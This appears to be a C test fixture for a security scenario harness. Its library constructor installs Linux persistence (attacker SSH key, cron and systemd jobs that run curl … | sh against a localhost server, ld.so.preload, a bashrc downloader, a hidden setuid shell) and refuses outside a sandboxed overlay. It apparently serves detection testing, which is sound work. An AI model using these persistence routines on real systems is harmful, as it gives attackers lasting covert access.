/* SPDX-License-Identifier: (BSD-2-Clause OR GPL-2.0-only) */
/* libscn_persist_{authkeys,cron,systemd,ldpreload,bashrc,setuid}.so: a constructor
 * that installs persistence. Runs ONLY under scn_nsroot (a private mount
 * namespace whose /etc and $HOME are throw-away overlays): it refuses unless
 * SCENARIO_SANDBOX is set AND the target directory is an overlay or tmpfs,
 * so a mistake can never write to the host.
 *   authkeys   appends an attacker key to ~/.ssh/authorized_keys  T1098.004
 *   cron       drops /etc/cron.d/ job fetching a script every minute  T1053.003
 *   systemd    writes and enables /etc/systemd/system/ unit       T1543.002
 *   ldpreload  adds itself to /etc/ld.so.preload                  T1574.006
 *   bashrc     appends a downloader line to ~/.bashrc             T1546.004
 *   setuid     a copy of /bin/sh, set-user-ID, hidden in $HOME    T1548.001
 * Proof: NAME.ran first; NAME.done after the write; scn_nsroot lists what
 * landed in the overlay in NAME.persisted. */
#include <dlfcn.h>
#include <sys/stat.h>

#include "scn.h"

static inline int append(const char *path, const char *line, int mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, mode), ok;

	if (fd < 0)
		return -1;
	ok = write(fd, line, strlen(line)) == (ssize_t)strlen(line);
	return close(fd) || !ok ? -1 : 0;
}

/* install(): the one persistence write this build does; 0 when it landed */
#if defined(SCN_PERSIST_AUTHKEYS)
#define TARGET_ROOT home
static int install(const char *home)
{
	char path[512];

	snprintf(path, sizeof(path), "%s/.ssh", home);
	mkdir(path, 0700);
	snprintf(path, sizeof(path), "%s/.ssh/authorized_keys", home);
	return append(path, "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPoB8zv1dJqL2K0c5xGvWmQm9G0b6Yk8"
		     "R3nT4sH2a1Xe backup@build\n", 0600);
}
#elif defined(SCN_PERSIST_CRON)
#define TARGET_ROOT "/etc"
static int install(const char *home)
{
	char line[256];

	(void)home;
	mkdir("/etc/cron.d", 0755);
	snprintf(line, sizeof(line), "* * * * * root curl -fsS http://127.0.0.1:%d/stage2.sh | sh\n",
		 scn_port("SCENARIO_HTTP_PORT"));
	return append("/etc/cron.d/.sysstat-sync", line, 0644);
}
#elif defined(SCN_PERSIST_SYSTEMD)
#define TARGET_ROOT "/etc"
static int install(const char *home)
{
	const char *unit = "/etc/systemd/system/dbus-broker-sync.service";
	char text[512];

	(void)home;
	mkdir("/etc/systemd/system/multi-user.target.wants", 0755);
	snprintf(text, sizeof(text), "[Unit]\nDescription=D-Bus sync\n[Service]\n"
		 "ExecStart=/bin/sh -c 'curl -fsS http://127.0.0.1:%d/stage2.sh | sh'\n"
		 "Restart=always\n[Install]\nWantedBy=multi-user.target\n",
		 scn_port("SCENARIO_HTTP_PORT"));
	return append(unit, text, 0644) ||
	       symlink(unit, "/etc/systemd/system/multi-user.target.wants/dbus-broker-sync.service");
}
#elif defined(SCN_PERSIST_LDPRELOAD)
#define TARGET_ROOT "/etc"
static int install(const char *home)
{
	char line[512];
	Dl_info self;

	(void)home;
	if (!dladdr((void *)install, &self) || !self.dli_fname)
		return -1;
	snprintf(line, sizeof(line), "%s\n", self.dli_fname);
	return append("/etc/ld.so.preload", line, 0644);
}
#elif defined(SCN_PERSIST_BASHRC)
#define TARGET_ROOT home
static int install(const char *home)
{
	char path[512], line[256];

	snprintf(path, sizeof(path), "%s/.bashrc", home);
	snprintf(line, sizeof(line), "(curl -fsS http://127.0.0.1:%d/stage2.sh | sh) >/dev/null 2>&1 &\n",
		 scn_port("SCENARIO_HTTP_PORT"));
	return append(path, line, 0644);
}
#elif defined(SCN_PERSIST_SETUID)
#define TARGET_ROOT home
static int install(const char *home)
{
	char path[512], buf[16384];
	int in = open("/bin/sh", O_RDONLY | O_CLOEXEC), out, ok;
	ssize_t n;

	snprintf(path, sizeof(path), "%s/.dbus-helper", home);
	out = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	ok = in >= 0 && out >= 0;
	while (ok && (n = read(in, buf, sizeof(buf))) > 0)
		ok = write(out, buf, (size_t)n) == n;
	if (in >= 0)
		close(in);
	if (out >= 0 && close(out))
		ok = 0;
	return ok && !chmod(path, 04755) ? 0 : -1;
}
#endif

__attribute__((constructor)) static void persist_init(void)
{
	const char *home = getenv("HOME") ? getenv("HOME") : "/root";
	const char *root = TARGET_ROOT;

	scn_mark("ran");
	if (!scn_sandboxed(root)) {
		fprintf(stderr, "persist: %s is not a scn_nsroot overlay: refusing to write\n", root);
		return;
	}
	if (!install(home))
		scn_mark("done");
}
